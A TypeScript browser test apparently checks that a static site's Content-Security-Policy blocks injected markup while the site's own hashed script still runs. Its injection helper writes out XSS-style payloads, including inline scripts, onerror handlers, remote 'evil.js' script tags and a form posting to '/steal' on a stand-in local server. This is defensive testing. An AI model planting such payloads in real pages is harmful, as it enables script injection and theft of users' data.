// The second wall: markup injected past the sanitiser on purpose (written into a built page by this test, the way
// a bug in the renderer would let it through) is refused by the browser because of the page's own
// Content-Security-Policy, while the project's own inline script still runs.
import { createServer, type Server } from 'node:http';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { launchChromium } from '../helpers/browser.ts';
import { serveStatic, type StaticServer } from '../helpers/static-server.ts';

const INCIDENT = 'incidents/INC-20250115-001/index.html';

let browser: Browser;
let site: StaticServer;
let thirdParty: Server;
let thirdPartyUrl: string;
const thirdPartyHits: string[] = [];
let scratch: string;

/** What an attacker would want on the page: inline script, a handler, a same-origin script file, remote requests. */
function injection(origin: string): string {
  return [
    '<script>window.__inlineRan = true;</script>',
    `<img src="${origin}/pixel.gif" onerror="window.__handlerRan = true" alt="">`,
    '<img src="/missing.gif" onerror="window.__handlerRan = true" alt="">',
    '<script src="/evil.js"></script>',
    `<script src="${origin}/evil.js"></script>`,
    `<iframe src="${origin}/frame"></iframe>`,
    `<link rel="stylesheet" href="${origin}/style.css">`,
    `<form action="${origin}/steal"><button id="steal">send</button></form>`,
  ].join('\n');
}

beforeAll(async () => {
  thirdParty = createServer((request, response) => {
    thirdPartyHits.push(request.url ?? '');
    response.writeHead(200, { 'Content-Type': 'text/javascript' }).end('window.__remoteRan = true;');
  });
  await new Promise<void>((resolve) => thirdParty.listen(0, '127.0.0.1', resolve));
  const address = thirdParty.address();
  thirdPartyUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;

  // A copy of one built page with the injection at the top of <main>, beside a script file on the same origin.
  scratch = await mkdtemp(path.join(os.tmpdir(), 'aftermath-csp-'));
  const page = await readFile(path.join(inject('exampleSite'), INCIDENT), 'utf8');
  expect(page).toMatch(/<main[^>]*>/);
  await writeFile(path.join(scratch, 'index.html'), page.replace(/<main[^>]*>/, (main) => `${main}\n${injection(thirdPartyUrl)}`));
  await writeFile(path.join(scratch, 'evil.js'), 'window.__sameOriginRan = true;');
  site = await serveStatic(scratch);

  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await site?.close();
  await new Promise((resolve) => thirdParty?.close(resolve));
  if (scratch) await rm(scratch, { recursive: true, force: true });
});

describe('the Content-Security-Policy of a built page', () => {
  it('is a <meta> that allows no script but hashed ones and no origin but the site', async () => {
    const page = await readFile(path.join(inject('exampleSite'), INCIDENT), 'utf8');
    const policy = /<meta http-equiv="content-security-policy" content="([^"]+)"/.exec(page)?.[1] ?? '';
    const directives = new Map(policy.split(';').map((directive) => directive.trim().split(/\s+/)).filter((parts) => parts[0]).map(([name, ...values]) => [name!, values]));
    expect(directives.get('default-src')).toEqual(["'none'"]);
    expect(directives.get('img-src')).toEqual(["'self'"]);
    expect(directives.get('base-uri')).toEqual(["'none'"]);
    expect(directives.get('form-action')).toEqual(["'none'"]);
    const scripts = directives.get('script-src') ?? [];
    expect(scripts).toContain("'strict-dynamic'");
    expect(scripts.filter((source) => !source.startsWith("'sha256-") && source !== "'strict-dynamic'" && source !== "'self'")).toEqual([]);
    expect(scripts.join(' ')).not.toMatch(/unsafe-inline|unsafe-eval|https?:|\*/);
    expect((directives.get('style-src') ?? []).join(' ')).not.toMatch(/unsafe-inline|https?:|\*/);
    // The policy comes before anything it governs.
    expect(page.indexOf('http-equiv="content-security-policy"')).toBeLessThan(page.indexOf('<script'));
  });

  it('stops injected script, handlers and remote requests, and still runs the site’s own script', async () => {
    const context = await browser.newContext({ timezoneId: 'Europe/Berlin', locale: 'en-US' });
    const page = await context.newPage();
    const requests: string[] = [];
    // Chromium reports a request it is about to block too; only one that completed left the machine's browser.
    page.on('requestfinished', (request) => requests.push(request.url()));
    await page.addInitScript(() => {
      const seen: string[] = [];
      (window as unknown as { __violations: string[] }).__violations = seen;
      document.addEventListener('securitypolicyviolation', (event) => seen.push(`${event.effectiveDirective} ${event.blockedURI}`));
    });
    await page.goto(`${site.url}/`, { waitUntil: 'load' });
    await page.click('#steal', { timeout: 2000, noWaitAfter: true }).catch(() => undefined);
    await page.waitForTimeout(500);

    const state = await page.evaluate(() => {
      const w = window as unknown as Record<string, unknown>;
      return { inline: w.__inlineRan, handler: w.__handlerRan, sameOrigin: w.__sameOriginRan, remote: w.__remoteRan, violations: w.__violations as string[] };
    });
    expect(state).toMatchObject({ inline: undefined, handler: undefined, sameOrigin: undefined, remote: undefined });
    expect(thirdPartyHits).toEqual([]);
    expect(requests.filter((url) => !url.startsWith(site.url))).toEqual([]);
    const blocked = state.violations.join('\n');
    expect(blocked).toContain('script-src-elem inline');
    expect(blocked).toContain(`img-src ${thirdPartyUrl}/pixel.gif`);
    expect(blocked).toContain(`script-src-elem ${site.url}/evil.js`);
    expect(blocked).toContain('script-src-attr inline');
    // Cross-origin frames are reported by origin only.
    expect(blocked).toContain(`frame-src ${thirdPartyUrl}`);
    expect(blocked).toContain(`form-action ${thirdPartyUrl}/steal`);
    // The project's own hashed script ran: instants gained the reader's (Berlin) time beside the site's.
    expect(await page.locator('.local-time').count()).toBeGreaterThan(0);
    await context.close();
  });
});
